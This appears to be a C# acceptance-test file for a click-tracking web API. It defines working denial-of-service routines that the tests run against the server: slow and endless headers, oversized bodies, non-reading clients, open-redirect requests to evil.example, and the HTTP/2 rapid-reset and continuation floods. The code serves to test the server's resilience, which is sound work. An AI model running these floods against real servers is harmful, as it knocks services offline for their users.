using System.Net;
using System.Net.Security;
using System.Net.Sockets;
using System.Security.Authentication;
using System.Text;

namespace ClickTracking.WebApi.AcceptanceTests.Transport.Attacks;

/// <summary>
/// Many connections that do one bad thing until they are stopped. One that the server ends is made again, so that the attack goes on.
/// </summary>
/// <param name="connections">The number of connections at once.</param>
/// <param name="run">What a connection does, until it ends or throws.</param>
internal sealed class Attack(string name, int connections, Func<Stream, CancellationToken, Task> run)
{
    private static readonly TimeSpan _pause = TimeSpan.FromMilliseconds(50);

    private int _made;

    /// <summary>The number of connections that were made.</summary>
    public int Made => Volatile.Read(ref _made);

    public bool IsOn => Made >= connections;

    public override string ToString() => name;

    /// <summary>Everything that is tried on a protocol.</summary>
    /// <param name="protocol"><c>http</c>, <c>https</c>, or <c>h2</c>, which is HTTP/2 over TLS.</param>
    /// <param name="idle">The number of connections that send nothing.</param>
    public static Attack[] All(string protocol, int idle) => protocol == "h2"
        ? [Idle(idle), SlowHeaderFrames(100), RapidResets(2), Continuations(2)]
        :
        [
            Idle(idle), SlowHeaders(200), Bodies(2), HeaderBombs(2), RefusedRedirs(2), NeverReading(2),
        ];

    /// <summary>Connections that send a header without an end, some bytes at a time.</summary>
    public static Attack SlowHeaders(int connections) => new("slow headers", connections, async (stream, stop) =>
    {
        await stream.WriteAsync("GET /clktr?id=582 HTTP/1.1\r\nHost: a\r\n"u8.ToArray(), stop);
        for (var n = 0; ; n++)
        {
            await stream.WriteAsync(Encoding.ASCII.GetBytes($"X-{n}: a\r\n"), stop);
            await Task.Delay(TimeSpan.FromMilliseconds(500), stop);
        }
    });

    /// <summary>Connections that send nothing; over TLS they complete the handshake first.</summary>
    public static Attack Idle(int connections) => new("idle connections", connections, ReadAsync);

    /// <summary>Bodies of 100 MB to an address that takes no more than 8 KB.</summary>
    public static Attack Bodies(int connections) => new("bodies of 100 MB", connections, async (stream, stop) =>
    {
        await stream.WriteAsync("POST /auth HTTP/1.1\r\nHost: a\r\nContent-Length: 100000000\r\n\r\n"u8.ToArray(), stop);
        await WriteForEverAsync(stream, new byte[1 << 16], stop);
    });

    /// <summary>Headers without an end, as fast as they are taken.</summary>
    public static Attack HeaderBombs(int connections) => new("header bombs", connections, async (stream, stop) =>
    {
        await stream.WriteAsync("GET /clktr?id=582 HTTP/1.1\r\nHost: a\r\n"u8.ToArray(), stop);
        await WriteForEverAsync(stream, Encoding.ASCII.GetBytes($"X-Bomb: {new string('a', 4000)}\r\n"), stop);
    });

    /// <summary>Redirects that are refused, one after the other.</summary>
    public static Attack RefusedRedirs(int connections) => new("refused redirs", connections, async (stream, stop) =>
    {
        var request = "GET /clktr?id=582&redir=https%3A%2F%2Fevil.example%2F HTTP/1.1\r\nHost: a\r\n\r\n"u8.ToArray();
        var answer = new byte[8192];
        while (true)
        {
            await stream.WriteAsync(request, stop);
            if (await stream.ReadAsync(answer, stop) == 0)
                return;
        }
    });

    /// <summary>Requests without an end, whose answers nobody reads.</summary>
    public static Attack NeverReading(int connections) => new("readers that do not read", connections, (stream, stop) => WriteForEverAsync(
        stream, Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat("GET /console/sign-in HTTP/1.1\r\nHost: a\r\n\r\n", 10))), stop));

    /// <summary>HTTP/2: a request whose headers never end.</summary>
    public static Attack SlowHeaderFrames(int connections) => new("header frames without an end", connections, async (stream, stop) =>
    {
        await stream.WriteAsync(Http2Frames.Preface(), stop);
        await stream.WriteAsync(Http2Frames.Headers(1, isWhole: false), stop);
        await ReadAsync(stream, stop);
    });

    /// <summary>HTTP/2: requests that are cancelled at once (CVE-2023-44487).</summary>
    public static Attack RapidResets(int connections) => new("rapid resets", connections, async (stream, stop) =>
    {
        await stream.WriteAsync(Http2Frames.Preface(), stop);
        var reading = ReadAsync(stream, stop);
        for (var id = 1; !reading.IsCompleted; id += 2)
            await stream.WriteAsync((byte[])[.. Http2Frames.Headers(id, isWhole: true), .. Http2Frames.Reset(id)], stop);
    });

    /// <summary>HTTP/2: continuations of headers without an end (CVE-2024-27316 and its like).</summary>
    public static Attack Continuations(int connections) => new("continuations without an end", connections, async (stream, stop) =>
    {
        await stream.WriteAsync(Http2Frames.Preface(), stop);
        await stream.WriteAsync(Http2Frames.Headers(1, isWhole: false), stop);
        await WriteForEverAsync(stream, Http2Frames.Continuation(1), stop);
    });

    /// <param name="secure">What every connection uses for TLS; null: there is none.</param>
    public Task RunAsync(IPEndPoint server, SslClientAuthenticationOptions? secure, CancellationToken stop) =>
        Task.WhenAll(Enumerable.Range(0, connections).Select(_ => Task.Run(() => GoOnAsync(server, secure, stop), CancellationToken.None)));

    private async Task GoOnAsync(IPEndPoint server, SslClientAuthenticationOptions? secure, CancellationToken stop)
    {
        while (!stop.IsCancellationRequested)
            try
            {
                using var client = new TcpClient();
                await client.ConnectAsync(server, stop);
                await using var stream = secure is null ? client.GetStream() : await SecureAsync(client, secure, stop);
                Interlocked.Increment(ref _made);
                await run(stream, stop);
            }
            catch (Exception exception) when (exception is IOException or SocketException or OperationCanceledException
                or AuthenticationException)
            {
                // The server has ended the connection, or the attack is over.
                await Task.Delay(_pause, CancellationToken.None);
            }
    }

    private static async Task<Stream> SecureAsync(TcpClient client, SslClientAuthenticationOptions secure, CancellationToken stop)
    {
        var stream = new SslStream(client.GetStream());
        await stream.AuthenticateAsClientAsync(secure, stop);
        return stream;
    }

    private static async Task ReadAsync(Stream stream, CancellationToken stop)
    {
        var buffer = new byte[1024];
        while (await stream.ReadAsync(buffer, stop) > 0)
        {
            // Nobody is interested.
        }
    }

    private static async Task WriteForEverAsync(Stream stream, byte[] bytes, CancellationToken stop)
    {
        while (true)
            await stream.WriteAsync(bytes, stop);
    }
}
